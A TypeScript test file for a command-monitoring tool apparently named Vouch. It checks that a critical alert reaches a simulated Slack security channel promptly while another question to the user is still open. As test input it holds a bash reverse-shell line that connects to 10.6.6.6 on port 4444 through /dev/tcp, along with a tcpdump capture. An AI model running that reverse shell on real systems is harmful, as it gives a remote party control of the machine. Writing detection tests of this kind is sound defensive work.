import { afterEach, describe, expect, it } from 'vitest';
import type { SimulatedMessage } from '../../src/sandbox/slack-simulator.js';
import { ALICE, Harness, messageText } from './harness.js';

const TCPDUMP = ['tcpdump', '-i', 'eth0'];
const DEV_TCP_SHELL = ['bash', '-c', 'bash -i >& /dev/tcp/10.6.6.6/4444 0>&1'];

/** The channel hears of a critical command at once, whatever question of its person is open. */
describe('a critical heads-up does not wait for another question', { timeout: 90_000 }, () => {
  let h: Harness;
  afterEach(async () => {
    await h?.stop();
  });

  const headsUps = (): SimulatedMessage[] => h.security().filter((m) => m.threadTs === null && m.metadata?.event_type === 'vouch_announcement');

  it('posts the heads-up of a critical command waiting behind an open question of its person', async () => {
    h = await new Harness().start();
    h.runCommand(ALICE, TCPDUMP);
    await h.settle();
    // Another login session: its own conversation, which waits for the tcpdump question to end.
    h.runCommand(ALICE, DEV_TCP_SHELL, { session: 8 });
    await h.settle();
    const alerts = await h.alerts();
    expect(alerts.map((a) => [a.rule_id, a.status]).sort()).toEqual([
      ['packet-capture', 'asked'],
      ['reverse-shell-dev-tcp', 'new'],
    ]);
    expect(h.dm(ALICE)).toHaveLength(1);
    const [headsUp, ...others] = headsUps();
    expect(others).toHaveLength(0);
    const text = messageText(headsUp!);
    expect(text).toContain('Critical: Shell bound to a /dev/tcp socket');
    expect(text).toContain('/dev/tcp/10.6.6.6/4444');
    expect(text).toContain('as soon as their other open question ends');
  });

  it('posts the heads-up when a critical command turns an open conversation critical, naming that command', async () => {
    h = await new Harness().start();
    h.runCommand(ALICE, TCPDUMP);
    await h.settle();
    expect(headsUps()).toHaveLength(0);
    // The same session: it joins the tcpdump question and raises it to critical.
    h.runCommand(ALICE, DEV_TCP_SHELL);
    await h.settle();
    const alerts = await h.alerts();
    const lead = alerts.find((a) => a.rule_id === 'packet-capture');
    const member = alerts.find((a) => a.rule_id === 'reverse-shell-dev-tcp');
    expect(member).toMatchObject({ conversation_id: lead!.id, rule_id: 'reverse-shell-dev-tcp' });
    expect(lead).toMatchObject({ status: 'asked', severity: 'critical' });
    const [headsUp, ...others] = headsUps();
    expect(others).toHaveLength(0);
    const text = messageText(headsUp!);
    expect(text).toContain('Critical: Shell bound to a /dev/tcp socket');
    expect(text).toContain('/dev/tcp/10.6.6.6/4444');
    expect(text).toContain('tcpdump -i eth0');
    expect(text).toContain('Vouch is asking them now');
  });
});
